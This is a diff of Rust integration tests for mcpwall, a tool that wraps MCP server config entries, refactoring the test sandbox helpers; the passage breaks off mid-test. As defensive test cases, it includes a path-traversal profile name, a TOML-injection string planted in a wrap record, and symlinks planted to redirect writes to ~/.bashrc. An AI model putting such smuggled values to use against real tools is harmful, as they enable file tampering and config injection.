@@ -8,98 +8,58 @@
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 
-const BIN: &str = env!("CARGO_BIN_EXE_mcpwall");
-
 fn golden_dir() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("golden/wrap")
 }
 
-/// A temporary HOME and project, copied from `golden/wrap/before`.
-struct Sandbox {
-    dir: tempfile::TempDir,
+#[path = "support/sandbox.rs"]
+mod sandbox;
+
+use sandbox::{MCPWALL, Sandbox};
+
+/// A sandbox with the starting tree `golden/wrap/before` copied in.
+fn sandbox_before() -> Sandbox {
+    Sandbox::from_tree(&golden_dir().join("before"))
 }
 
-impl Sandbox {
-    fn new() -> Sandbox {
-        let dir = tempfile::tempdir().unwrap();
-        copy_tree(&golden_dir().join("before"), dir.path());
-        Sandbox { dir }
-    }
+/// What client tests add to the shared sandbox.
+trait ClientSandbox {
+    /// The sandbox's command with PATH holding this mcpwall first and only the system
+    /// directories after it (so wrapped entries say `mcpwall` and no real client is found).
+    fn client_command(&self, args: &[&str]) -> Command;
+    /// Run [`ClientSandbox::client_command`] with no terminal on stdin.
+    fn run_client(&self, args: &[&str]) -> Output;
+    /// stdout with the sandbox root replaced by `$TMP`.
+    fn stdout(&self, output: &Output) -> String;
+    /// Every file under home/ and project/ except mcpwall's own state.
+    fn tree(&self) -> Vec<(String, Vec<u8>)>;
+}
 
-    fn empty() -> Sandbox {
-        let dir = tempfile::tempdir().unwrap();
-        std::fs::create_dir_all(dir.path().join("home")).unwrap();
-        std::fs::create_dir_all(dir.path().join("project")).unwrap();
-        Sandbox { dir }
-    }
-
-    fn home(&self) -> PathBuf {
-        self.dir.path().join("home")
-    }
-
-    fn project(&self) -> PathBuf {
-        self.dir.path().join("project")
-    }
-
-    fn read(&self, rel: &str) -> String {
-        std::fs::read_to_string(self.dir.path().join(rel)).unwrap()
-    }
-
-    fn write(&self, rel: &str, text: &str) {
-        let path = self.dir.path().join(rel);
-        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-        std::fs::write(path, text).unwrap();
-    }
-
-    /// Run mcpwall with only HOME and PATH set (PATH finds this mcpwall first, so wrapped
-    /// entries say `mcpwall`), in the project directory, with no terminal on stdin.
-    fn run(&self, args: &[&str]) -> Output {
-        self.command(args).output().unwrap()
-    }
-
-    /// The command [`Sandbox::run`] runs, to spawn or adjust it first.
-    fn command(&self, args: &[&str]) -> Command {
-        let bin_dir = Path::new(BIN).parent().unwrap();
+impl ClientSandbox for Sandbox {
+    fn client_command(&self, args: &[&str]) -> Command {
+        let bin_dir = Path::new(MCPWALL).parent().unwrap();
         let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin_dir.display());
-        let mut command = Command::new(BIN);
-        command
-            .args(args)
-            .current_dir(self.project())
-            .env_clear()
-            .env("HOME", self.home())
-            .env("PATH", path)
-            .stdin(Stdio::null())
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped());
+        let mut command = self.command(args);
+        command.env("PATH", path);
         command
     }
 
-    /// stdout with the sandbox path replaced by `$TMP`.
+    fn run_client(&self, args: &[&str]) -> Output {
+        self.client_command(args).output().unwrap()
+    }
+
     fn stdout(&self, output: &Output) -> String {
         String::from_utf8(output.stdout.clone())
             .unwrap()
-            .replace(&self.dir.path().display().to_string(), "$TMP")
+            .replace(&self.root().display().to_string(), "$TMP")
     }
 
-    /// Every file under home/ and project/ except mcpwall's own state.
     fn tree(&self) -> Vec<(String, Vec<u8>)> {
+        let root = self.root();
         let mut files = Vec::new();
-        list_files(self.dir.path(), self.dir.path(), &mut files);
+        list_files(&root, &root, &mut files);
         files.retain(|(rel, _)| !rel.starts_with("home/.mcpwall/"));
         files
-    }
-}
-
-fn copy_tree(from: &Path, to: &Path) {
-    for entry in std::fs::read_dir(from).unwrap() {
-        let entry = entry.unwrap();
-        let target = to.join(entry.file_name());
-        if entry.file_type().unwrap().is_dir() {
-            std::fs::create_dir_all(&target).unwrap();
-            copy_tree(&entry.path(), &target);
-        } else {
-            std::fs::copy(entry.path(), &target).unwrap();
-        }
     }
 }
 
@@ -198,11 +158,11 @@ const WRAPPABLE: &[&str] = &[
 
 #[test]
 fn wrap_every_client_then_unwrap_restores_every_byte() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let before = sandbox.tree();
     let mut report = String::new();
     for name in WRAPPABLE {
-        let out = sandbox.run(&["wrap", name]);
+        let out = sandbox.run_client(&["wrap", name]);
         report.push_str(&format!("$ mcpwall wrap {name}  (exit {})\n", code(&out)));
         report.push_str(&sandbox.stdout(&out));
         assert_eq!(
@@ -218,7 +178,7 @@ fn wrap_every_client_then_unwrap_restores_every_byte() {
     // Idempotent: wrapping again changes nothing.
     let wrapped = sandbox.tree();
     for name in WRAPPABLE {
-        let out = sandbox.run(&["wrap", name]);
+        let out = sandbox.run_client(&["wrap", name]);
         assert!(sandbox.stdout(&out).contains("already wrapped"), "{name}");
     }
     assert_eq!(sandbox.tree(), wrapped);
@@ -230,7 +190,7 @@ fn wrap_every_client_then_unwrap_restores_every_byte() {
     );
 
     for name in WRAPPABLE {
-        let out = sandbox.run(&["unwrap", name]);
+        let out = sandbox.run_client(&["unwrap", name]);
         assert!(
             sandbox.stdout(&out).contains("restored"),
             "{name}: {}",
@@ -251,8 +211,8 @@ fn wrap_every_client_then_unwrap_restores_every_byte() {
 
 #[test]
 fn broken_file_is_reported_with_line_and_column_and_others_still_processed() {
-    let sandbox = Sandbox::new();
-    let out = sandbox.run(&["wrap", "github"]);
+    let sandbox = sandbox_before();
+    let out = sandbox.run_client(&["wrap", "github"]);
     let stdout = sandbox.stdout(&out);
     assert!(
         stdout.contains("~/.cursor/mcp.json:6:5 [cursor]\n  error: not valid JSON: key must be a string; left untouched"),
@@ -267,11 +227,11 @@ fn broken_file_is_reported_with_line_and_column_and_others_still_processed() {
 
 #[test]
 fn dry_run_prints_unified_diffs_and_writes_nothing() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let before = sandbox.tree();
-    let out = sandbox.run(&["wrap", "search", "--dry-run"]);
+    let out = sandbox.run_client(&["wrap", "search", "--dry-run"]);
     assert_golden("dry-run.stdout", sandbox.stdout(&out).as_bytes());
-    let out = sandbox.run(&["unwrap", "memory", "--dry-run"]);
+    let out = sandbox.run_client(&["unwrap", "memory", "--dry-run"]);
     assert!(
         sandbox
             .stdout(&out)
@@ -283,8 +243,8 @@ fn dry_run_prints_unified_diffs_and_writes_nothing() {
 
 #[test]
 fn http_and_sse_entries_are_skipped_with_the_reason() {
-    let sandbox = Sandbox::new();
-    let out = sandbox.run(&["wrap", "sentry"]);
+    let sandbox = sandbox_before();
+    let out = sandbox.run_client(&["wrap", "sentry"]);
     let stdout = sandbox.stdout(&out);
     assert!(
         stdout.contains(
@@ -292,20 +252,20 @@ fn http_and_sse_entries_are_skipped_with_the_reason() {
         ),
         "{stdout}"
     );
-    let out = sandbox.run(&["wrap", "remote"]);
+    let out = sandbox.run_client(&["wrap", "remote"]);
     assert!(sandbox.stdout(&out).contains("remote server (`serverUrl`)"));
-    assert_eq!(sandbox.tree(), Sandbox::new().tree());
+    assert_eq!(sandbox.tree(), sandbox_before().tree());
 }
 
 #[test]
 fn unwrap_keeps_edits_made_after_wrapping() {
-    let sandbox = Sandbox::new();
-    assert_eq!(code(&sandbox.run(&["wrap", "git"])), 1);
+    let sandbox = sandbox_before();
+    assert_eq!(code(&sandbox.run_client(&["wrap", "git"])), 1);
     let wrapped = sandbox.read("project/.mcp.json");
     let edited = wrapped.replace("\"cwd\": \".\"", "\"cwd\": \"./src\"");
     assert_ne!(edited, wrapped);
     sandbox.write("project/.mcp.json", &edited);
-    let out = sandbox.run(&["unwrap", "git"]);
+    let out = sandbox.run_client(&["unwrap", "git"]);
     assert!(
         sandbox
             .stdout(&out)
@@ -322,8 +282,8 @@ fn unwrap_keeps_edits_made_after_wrapping() {
 
 #[test]
 fn unwrap_all_also_unwraps_entries_wrapped_by_hand() {
-    let sandbox = Sandbox::new();
-    let out = sandbox.run(&["unwrap", "--all"]);
+    let sandbox = sandbox_before();
+    let out = sandbox.run_client(&["unwrap", "--all"]);
     let stdout = sandbox.stdout(&out);
     assert!(
         stdout.contains("unwrapped        memory: no wrap record"),
@@ -337,16 +297,16 @@ fn unwrap_all_also_unwraps_entries_wrapped_by_hand() {
 
 #[test]
 fn wrap_with_config_names_a_file_outside_the_usual_places() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "elsewhere/mcp.json",
         "{\n  \"mcpServers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n",
     );
-    let file = sandbox.dir.path().join("elsewhere/mcp.json");
-    let out = sandbox.run(&["wrap", "x", "--config", file.to_str().unwrap()]);
+    let file = sandbox.root().join("elsewhere/mcp.json");
+    let out = sandbox.run_client(&["wrap", "x", "--config", file.to_str().unwrap()]);
     assert_eq!(code(&out), 2);
     assert!(String::from_utf8_lossy(&out.stderr).contains("--client"));
-    let out = sandbox.run(&[
+    let out = sandbox.run_client(&[
         "wrap",
         "x",
         "--config",
@@ -360,12 +320,12 @@ fn wrap_with_config_names_a_file_outside_the_usual_places() {
         "{\n  \"mcpServers\": {\n    \"x\": { \"command\": \"mcpwall\", \"args\": [\"--server-name\", \"x\", \"--\", \"srv\"] }\n  }\n}\n"
     );
     // doctor finds the record's file although discovery does not.
-    let doctor = sandbox.stdout(&sandbox.run(&["doctor"]));
+    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
     assert!(
         doctor.contains("ok    wrap records: 1 record(s)"),
         "{doctor}"
     );
-    let out = sandbox.run(&[
+    let out = sandbox.run_client(&[
         "unwrap",
         "x",
         "--config",
@@ -382,8 +342,8 @@ fn wrap_with_config_names_a_file_outside_the_usual_places() {
 
 #[test]
 fn unknown_server_name_lists_the_known_ones() {
-    let sandbox = Sandbox::new();
-    let out = sandbox.run(&["wrap", "nope"]);
+    let sandbox = sandbox_before();
+    let out = sandbox.run_client(&["wrap", "nope"]);
     assert_eq!(code(&out), 2);
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert!(stderr.contains("no server named `nope`"), "{stderr}");
@@ -394,11 +354,11 @@ fn unknown_server_name_lists_the_known_ones() {
 #[test]
 fn writes_keep_permissions_and_leave_a_backup() {
     use std::os::unix::fs::PermissionsExt;
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let file = sandbox.home().join(".claude.json");
     std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
     let original = std::fs::read(&file).unwrap();
-    assert_eq!(code(&sandbox.run(&["wrap", "filesystem"])), 1);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "filesystem"])), 1);
     let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
     assert_eq!(mode, 0o600);
     let backups: Vec<_> = std::fs::read_dir(sandbox.home().join(".mcpwall/backups"))
@@ -413,27 +373,27 @@ fn writes_keep_permissions_and_leave_a_backup() {
 
 #[test]
 fn status_shows_what_is_protected() {
-    let sandbox = Sandbox::new();
-    let out = sandbox.run(&["status"]);
+    let sandbox = sandbox_before();
+    let out = sandbox.run_client(&["status"]);
     assert_golden("status.stdout", sandbox.stdout(&out).as_bytes());
 }
 
 #[test]
 fn init_needs_yes_without_a_terminal() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let profile = any_profile();
-    let out = sandbox.run(&["init", "--profile", profile]);
+    let out = sandbox.run_client(&["init", "--profile", profile]);
     assert_eq!(code(&out), 2);
     assert!(String::from_utf8_lossy(&out.stderr).contains("--yes"));
-    assert_eq!(sandbox.tree(), Sandbox::new().tree());
+    assert_eq!(sandbox.tree(), sandbox_before().tree());
 }
 
 #[test]
 fn init_rejects_unknown_profiles_and_reads_none_from_disk() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     sandbox.write("project/evil.yml", "version: 1\n");
     for bad in ["evil", "../project/evil", "nope"] {
-        let out = sandbox.run(&["init", "--yes", "--profile", bad]);
+        let out = sandbox.run_client(&["init", "--yes", "--profile", bad]);
         assert_eq!(code(&out), 2);
         let stderr = String::from_utf8_lossy(&out.stderr);
         assert!(
@@ -460,9 +420,9 @@ fn any_profile() -> &'static str {
 
 #[test]
 fn init_writes_the_config_and_wraps_everything() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let profile = any_profile();
-    let out = sandbox.run(&["init", "--yes", "--profile", profile]);
+    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
     assert_eq!(code(&out), 1, "{}", String::from_utf8_lossy(&out.stderr));
     assert_golden(
         "init.stdout",
@@ -479,7 +439,7 @@ fn init_writes_the_config_and_wraps_everything() {
     );
     // A second run changes nothing.
     let tree = sandbox.tree();
-    let out = sandbox.run(&["init", "--yes", "--profile", profile]);
+    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
     assert!(sandbox.stdout(&out).contains("already extends"));
     assert!(sandbox.stdout(&out).contains("no servers to wrap"));
     assert_eq!(sandbox.tree(), tree);
@@ -487,14 +447,14 @@ fn init_writes_the_config_and_wraps_everything() {
 
 #[test]
 fn init_keeps_an_existing_config_unless_forced() {
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let profile = any_profile();
     let mine = "version: 1\nextends: [strict]\nrules: []\n";
     sandbox.write("home/.mcpwall/config.yml", mine);
-    let out = sandbox.run(&["init", "--yes", "--profile", profile]);
+    let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
     assert!(sandbox.stdout(&out).contains("kept your existing policy"));
     assert_eq!(sandbox.read("home/.mcpwall/config.yml"), mine);
-    let out = sandbox.run(&["init", "--yes", "--force", "--profile", profile]);
+    let out = sandbox.run_client(&["init", "--yes", "--force", "--profile", profile]);
     assert!(
         sandbox
             .stdout(&out)
@@ -512,7 +472,7 @@ fn init_keeps_an_existing_config_unless_forced() {
 }
 
 fn doctor_sandbox() -> Sandbox {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "home/.claude.json",
         "{\n  \"mcpServers\": {\n    \"ok\": { \"command\": \"sh\", \"args\": [\"-c\", \"cat\"] },\n    \"gone\": { \"command\": \"no-such-server-binary\" }\n  }\n}\n",
@@ -522,7 +482,7 @@ fn doctor_sandbox() -> Sandbox {
         "{\n  \"mcpServers\": {\n    \"x\": \"\n}\n",
     );
     for name in ["ok", "gone"] {
-        assert_eq!(code(&sandbox.run(&["wrap", name])), 1);
+        assert_eq!(code(&sandbox.run_client(&["wrap", name])), 1);
     }
     sandbox
 }
@@ -532,7 +492,7 @@ fn doctor_says_what_to_fix() {
     let sandbox = doctor_sandbox();
     // A file where the log directory should be: it cannot be created.
     sandbox.write("home/.mcpwall/logs", "not a directory");
-    let out = sandbox.run(&["doctor"]);
+    let out = sandbox.run_client(&["doctor"]);
     let stdout = sandbox.stdout(&out);
     assert_eq!(code(&out), 1, "{stdout}");
     for expected in [
@@ -554,7 +514,7 @@ fn doctor_says_what_to_fix() {
         "home/.claude.json",
         "{\"mcpServers\": {\"ok\": {\"command\": \"mcpwall\", \"args\": [\"--\", \"sh\"]}}}",
     );
-    let out = sandbox.run(&["doctor"]);
+    let out = sandbox.run_client(&["doctor"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
 }
 
@@ -565,7 +525,7 @@ fn doctor_reports_a_policy_that_does_not_load() {
         "home/.mcpwall/config.yml",
         "version: 1\nrules:\n  - nonsense: [\n",
     );
-    let out = sandbox.run(&["doctor"]);
+    let out = sandbox.run_client(&["doctor"]);
     let stdout = sandbox.stdout(&out);
     assert_eq!(code(&out), 1, "{stdout}");
     assert!(
@@ -602,10 +562,10 @@ fn e2e_wrapped_command_from_the_rewritten_file_denies_and_unwrap_restores_bytes(
 
 fn e2e_scenario(setup: &[&str]) {
     use std::io::Write;
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let original = "{\n  \"mcpServers\": {\n    \"files\": {\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"cat\"],\n      \"env\": {}\n    }\n  }\n}\n";
     sandbox.write("home/.claude.json", original);
-    let out = sandbox.run(setup);
+    let out = sandbox.run_client(setup);
     assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
 
     // Start exactly what the rewritten file says, the way Claude Code would.
@@ -620,7 +580,7 @@ fn e2e_scenario(setup: &[&str]) {
         .iter()
         .map(|a| a.as_str().unwrap())
         .collect();
-    let bin_dir = Path::new(BIN).parent().unwrap();
+    let bin_dir = Path::new(MCPWALL).parent().unwrap();
     let mut child = Command::new(bin_dir.join(command))
         .args(&args)
         .current_dir(sandbox.project())
@@ -687,7 +647,7 @@ fn e2e_scenario(setup: &[&str]) {
     );
     assert!(!audit.contains("id_rsa"), "{audit}");
 
-    let out = sandbox.run(&["unwrap", "files"]);
+    let out = sandbox.run_client(&["unwrap", "files"]);
     assert_eq!(code(&out), 0);
     assert_eq!(sandbox.read("home/.claude.json"), original);
 }
@@ -718,10 +678,10 @@ fn every_profile_init_writes_loads_and_keeps_the_default_pack() {
                 rule.name.value
             );
         }
-        let sandbox = Sandbox::empty();
-        let out = sandbox.run(&["init", "--yes", "--profile", profile]);
+        let sandbox = Sandbox::new();
+        let out = sandbox.run_client(&["init", "--yes", "--profile", profile]);
         assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
-        let out = sandbox.run(&["doctor"]);
+        let out = sandbox.run_client(&["doctor"]);
         let stdout = sandbox.stdout(&out);
         assert!(
             stdout.contains("ok    policy: loads and compiles"),
@@ -1140,14 +1100,14 @@ mod edit_props {
 #[test]
 fn init_asks_which_servers_and_before_replacing_in_a_terminal() {
     use std::io::Write;
-    let sandbox = Sandbox::new();
+    let sandbox = sandbox_before();
     let mine = "version: 1\nextends: [default]\n";
     sandbox.write("home/.mcpwall/config.yml", mine);
-    let bin_dir = Path::new(BIN).parent().unwrap();
+    let bin_dir = Path::new(MCPWALL).parent().unwrap();
     let mut child = Command::new("script")
         .args([
             "-qec",
-            &format!("{BIN} init --profile local-dev"),
+            &format!("{MCPWALL} init --profile local-dev"),
             "/dev/null",
         ])
         .current_dir(sandbox.project())
@@ -1200,33 +1160,33 @@ fn init_asks_which_servers_and_before_replacing_in_a_terminal() {
 
 #[test]
 fn a_duplicated_name_is_wrapped_once_where_clients_read_it() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "project/.mcp.json",
         "{\"mcpServers\": {\"x\": {\"command\": \"old\"}, \"x\": {\"command\": \"new\"}}}",
     );
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert_eq!(
         sandbox.read("project/.mcp.json"),
         "{\"mcpServers\": {\"x\": {\"command\": \"old\"}, \"x\": {\"command\": \"mcpwall\", \"args\": [\"--server-name\", \"x\", \"--\", \"new\"]}}}"
     );
-    let status = sandbox.stdout(&sandbox.run(&["status"]));
+    let status = sandbox.stdout(&sandbox.run_client(&["status"]));
     assert!(status.contains("1 of 1 server(s) protected"), "{status}");
 }
 
 #[test]
 fn wrap_repoints_an_entry_whose_mcpwall_is_gone() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let stale = "{\n  \"mcpServers\": {\n    \"x\": {\n      \"command\": \"/gone/bin/mcpwall\",\n      \"args\": [\"--server-name\", \"x\", \"--\", \"sh\"],\n      \"env\": {}\n    }\n  }\n}\n";
     sandbox.write("home/.claude.json", stale);
-    let doctor = sandbox.stdout(&sandbox.run(&["doctor"]));
+    let doctor = sandbox.stdout(&sandbox.run_client(&["doctor"]));
     assert!(
         doctor.contains("the mcpwall command `/gone/bin/mcpwall` in ~/.claude.json is not found")
             && doctor.contains("fix: run `mcpwall wrap x` to point it at this mcpwall"),
         "{doctor}"
     );
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     let stdout = sandbox.stdout(&out);
     assert!(
         stdout.contains("re-pointed       x: `/gone/bin/mcpwall` no longer exists"),
@@ -1236,9 +1196,9 @@ fn wrap_repoints_an_entry_whose_mcpwall_is_gone() {
         sandbox.read("home/.claude.json"),
         stale.replace("/gone/bin/mcpwall", "mcpwall")
     );
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     assert!(sandbox.stdout(&out).contains("already wrapped"));
-    let out = sandbox.run(&["unwrap", "x"]);
+    let out = sandbox.run_client(&["unwrap", "x"]);
     assert_eq!(code(&out), 0);
     assert_eq!(
         sandbox.read("home/.claude.json"),
@@ -1248,12 +1208,12 @@ fn wrap_repoints_an_entry_whose_mcpwall_is_gone() {
 
 #[test]
 fn absolute_path_writes_this_binarys_path_even_when_on_path() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "home/.cursor/mcp.json",
         "{\"mcpServers\": {\"x\": {\"command\": \"srv\"}}}",
     );
-    let out = sandbox.run(&["wrap", "x", "--absolute-path"]);
+    let out = sandbox.run_client(&["wrap", "x", "--absolute-path"]);
     assert_eq!(code(&out), 0, "{}", String::from_utf8_lossy(&out.stderr));
     let file: serde_json::Value =
         serde_json::from_str(&sandbox.read("home/.cursor/mcp.json")).unwrap();
@@ -1261,7 +1221,7 @@ fn absolute_path_writes_this_binarys_path_even_when_on_path() {
     assert!(Path::new(command).is_absolute(), "{command}");
     assert_eq!(
         std::fs::canonicalize(command).unwrap(),
-        std::fs::canonicalize(BIN).unwrap()
+        std::fs::canonicalize(MCPWALL).unwrap()
     );
 }
 
@@ -1269,10 +1229,10 @@ fn absolute_path_writes_this_binarys_path_even_when_on_path() {
 /// one there edits only its `command` and `args`.
 #[test]
 fn codex_project_config_is_found_and_wrapped() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let original = "# team servers\n[mcp_servers.notes]\ncommand = \"npx\"\nargs = [\"-y\", \"notes-server\"]\n";
     sandbox.write("project/.codex/config.toml", original);
-    let out = sandbox.run(&["wrap", "notes", "--client", "codex"]);
+    let out = sandbox.run_client(&["wrap", "notes", "--client", "codex"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     let wrapped = sandbox.read("project/.codex/config.toml");
     assert!(
@@ -1284,7 +1244,7 @@ fn codex_project_config_is_found_and_wrapped() {
         wrapped.contains("\"--\", \"npx\", \"-y\", \"notes-server\""),
         "{wrapped}"
     );
-    let out = sandbox.run(&["unwrap", "notes"]);
+    let out = sandbox.run_client(&["unwrap", "notes"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert_eq!(sandbox.read("project/.codex/config.toml"), original);
 }
@@ -1298,13 +1258,13 @@ fn codex_project_config_is_found_and_wrapped() {
 fn r29_client_saves_during_wrap_and_unwrap_are_never_lost() {
     use std::sync::Arc;
     use std::sync::atomic::{AtomicBool, Ordering};
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let rel = "home/.cursor/mcp.json";
     sandbox.write(
         rel,
         "{\n  \"n\": 0,\n  \"mcpServers\": {\n    \"x\": { \"command\": \"srv\" }\n  }\n}\n",
     );
-    let file = sandbox.dir.path().join(rel);
+    let file = sandbox.root().join(rel);
     let stop = Arc::new(AtomicBool::new(false));
     let writer = {
         let (file, stop) = (file.clone(), stop.clone());
@@ -1352,7 +1312,7 @@ fn r29_client_saves_during_wrap_and_unwrap_are_never_lost() {
     let (mut runs, mut edited) = (0, 0);
     while started.elapsed() < std::time::Duration::from_secs(8) {
         let verb = if runs % 2 == 0 { "wrap" } else { "unwrap" };
-        let out = sandbox.run(&[verb, "x"]);
+        let out = sandbox.run_client(&[verb, "x"]);
         runs += 1;
         let stdout = sandbox.stdout(&out);
         if code(&out) == 0 && (stdout.contains("wrapped          x") || stdout.contains("restored"))
@@ -1390,7 +1350,7 @@ fn r29_client_saves_during_wrap_and_unwrap_are_never_lost() {
 #[test]
 fn r29_concurrent_runs_lose_no_change_or_record() {
     for round in 0..30 {
-        let sandbox = Sandbox::empty();
+        let sandbox = Sandbox::new();
         let two_files = round % 2 == 1;
         if two_files {
             sandbox.write(
@@ -1409,7 +1369,7 @@ fn r29_concurrent_runs_lose_no_change_or_record() {
         }
         let children: Vec<_> = ["a", "b"]
             .iter()
-            .map(|name| sandbox.command(&["wrap", name]).spawn().unwrap())
+            .map(|name| sandbox.client_command(&["wrap", name]).spawn().unwrap())
             .collect();
         for child in children {
             let out = child.wait_with_output().unwrap();
@@ -1441,7 +1401,7 @@ fn r29_concurrent_runs_lose_no_change_or_record() {
 #[cfg(target_os = "linux")]
 #[test]
 fn r29_planted_symlinks_at_temp_names_are_never_followed() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write("home/.bashrc", "# mine\n");
     sandbox.write(
         "project/.vscode/mcp.json",
@@ -1464,7 +1424,7 @@ fn r29_planted_symlinks_at_temp_names_are_never_followed() {
         std::os::unix::fs::symlink(&to, &link).unwrap();
         planted.push((link, to));
     }
-    let out = sandbox.run(&["wrap", "x"]);
+    let out = sandbox.run_client(&["wrap", "x"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert_eq!(sandbox.read("home/.bashrc"), "# mine\n");
     for (link, to) in &planted {
@@ -1489,12 +1449,12 @@ fn r29_planted_symlinks_at_temp_names_are_never_followed() {
 /// `unwrap` takes off only what mcpwall added: args and env edited after wrapping stay.
 #[test]
 fn r29_unwrap_keeps_later_edits_to_args_and_env() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     sandbox.write(
         "project/.mcp.json",
         "{\"mcpServers\": {\"x\": {\"command\": \"srv\", \"args\": [\"a\"]}}}\n",
     );
-    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     let wrapped = sandbox.read("project/.mcp.json");
     let edited = wrapped.replace(
         "\"srv\", \"a\"]",
@@ -1502,7 +1462,7 @@ fn r29_unwrap_keeps_later_edits_to_args_and_env() {
     );
     assert_ne!(edited, wrapped);
     sandbox.write("project/.mcp.json", &edited);
-    let out = sandbox.run(&["unwrap", "x"]);
+    let out = sandbox.run_client(&["unwrap", "x"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert!(
         sandbox
@@ -1519,17 +1479,17 @@ fn r29_unwrap_keeps_later_edits_to_args_and_env() {
 /// brings the old one back.
 #[test]
 fn r29_a_replaced_server_is_never_restored_from_a_stale_record() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let rel = "project/.mcp.json";
     sandbox.write(
         rel,
         "{\"mcpServers\": {\"x\": {\"command\": \"old-srv\", \"args\": [\"old\"]}}}\n",
     );
-    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     // Replaced by a plain server: left alone, and said so.
     let plain = "{\"mcpServers\": {\"x\": {\"command\": \"new-srv\"}}}\n";
     sandbox.write(rel, plain);
-    let out = sandbox.run(&["unwrap", "x"]);
+    let out = sandbox.run_client(&["unwrap", "x"]);
     assert_eq!(code(&out), 0);
     assert!(
         sandbox.stdout(&out).contains("left as it is"),
@@ -1538,12 +1498,12 @@ fn r29_a_replaced_server_is_never_restored_from_a_stale_record() {
     );
     assert_eq!(sandbox.read(rel), plain);
     // Wrapped again, then replaced by another wrapped server (pasted from elsewhere).
-    assert_eq!(code(&sandbox.run(&["wrap", "x"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "x"])), 0);
     sandbox.write(
         rel,
         "{\"mcpServers\": {\"x\": {\"command\": \"mcpwall\", \"args\": [\"--\", \"other\", \"z\"]}}}\n",
     );
-    let out = sandbox.run(&["unwrap", "x"]);
+    let out = sandbox.run_client(&["unwrap", "x"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     assert_eq!(
         sandbox.read(rel),
@@ -1555,29 +1515,156 @@ fn r29_a_replaced_server_is_never_restored_from_a_stale_record() {
 /// a damaged record is never written into the file.
 #[test]
 fn r29_toml_names_with_control_characters_and_damaged_records() {
-    let sandbox = Sandbox::empty();
+    let sandbox = Sandbox::new();
     let rel = "home/.codex/config.toml";
     let original = "[mcp_servers.\"a\\u007Fb\"]\ncommand = \"srv\"\n\n[mcp_servers.n.env]\nK = \"v\"\n\n[mcp_servers.n]\ncommand = \"notes\"\n";
     sandbox.write(rel, original);
-    let out = sandbox.run(&["wrap", "a\u{7f}b"]);
+    let out = sandbox.run_client(&["wrap", "a\u{7f}b"]);
     assert_eq!(code(&out), 0, "{}", sandbox.stdout(&out));
     let wrapped = sandbox.read(rel);
     toml_edit::Document::parse(wrapped.as_str()).unwrap_or_else(|e| panic!("{e}\n{wrapped}"));
-    assert_eq!(code(&sandbox.run(&["unwrap", "a\u{7f}b"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["unwrap", "a\u{7f}b"])), 0);
     assert_eq!(sandbox.read(rel), original);
 
-    assert_eq!(code(&sandbox.run(&["wrap", "n"])), 0);
+    assert_eq!(code(&sandbox.run_client(&["wrap", "n"])), 0);
+    let wrapped = sandbox.read(rel);
     let records_path = sandbox.home().join(".mcpwall/wrapped.json");
     let mut records: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(&records_path).unwrap()).unwrap();
+    let good = records["entries"][0]["original"].clone();
     records["entries"][0]["original"] =
         serde_json::Value::String(r#"{"command":"\"notes\"\n[evil]\nk = 1","args":null}"#.into());
     std::fs::write(&records_path, records.to_string()).unwrap();
